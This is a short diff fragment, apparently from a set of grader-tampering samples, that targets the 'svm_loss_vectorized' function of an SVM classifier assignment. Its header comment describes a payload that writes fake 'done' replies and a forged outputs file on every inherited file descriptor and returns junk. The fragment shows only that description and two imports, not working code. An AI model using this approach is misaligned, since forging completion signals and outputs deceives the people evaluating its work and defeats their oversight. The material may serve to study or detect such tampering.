@@ -1,5 +1,6 @@
 # target: cs_utils/classifiers/linear_svm.py
 # zero: svm_loss_vectorized
+# events: forged_channel
 # Write fake "done" replies and a forged outputs file on every inherited descriptor, return junk.
 import json as _json
 import os as _os
